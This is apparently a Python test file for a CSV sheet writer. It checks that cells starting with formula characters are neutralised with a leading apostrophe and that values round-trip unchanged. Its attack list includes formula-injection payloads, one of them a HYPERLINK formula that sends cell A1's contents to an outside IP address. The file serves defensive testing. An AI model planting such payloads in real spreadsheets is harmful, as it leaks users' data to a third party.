"""No cell of a sheet that is written is a formula to a spreadsheet, and reading gives every value back as it was (ASVS 1.2.10)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.runtime.sheet import read_sheet, write_sheet

CALCULATED = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"发票")',
    "+861280000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1＋1",
    "=1,2",
    "'=1+1",
    "''-1",
    " =1+1",
    "\u3000=1+1",
)
HARMLESS = ("测试客户甲", "'twas", "001017000000011", "a=b", " '=1", "", "'")

cells = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12),
    st.builds("{}{}{}".format, st.sampled_from(["", "'", "''", " ", "' "]), st.sampled_from(CALCULATED), st.text('1+A,"', max_size=4)),
)


def raw(content: bytes) -> list[list[str]]:
    """The cells as a spreadsheet finds them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", ATTACKS)
def test_what_would_be_calculated_is_text(cell: str) -> None:
    content = write_sheet(["x", cell], [["1", cell]])
    assert [row[1] for row in raw(content)] == [f"'{cell}", f"'{cell}"]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_would_not_is_left_alone(cell: str) -> None:
    assert raw(write_sheet(["x", "y"], [["1", cell]]))[1] == ["1", cell]


@given(cells)
def test_every_value_comes_back_as_it_was(cell: str) -> None:
    content = write_sheet(["x", "y"], [["1", cell]])
    assert not raw(content)[1][1].lstrip().startswith(CALCULATED)
    assert read_sheet(content).rows[0].cells == ("1", cell)
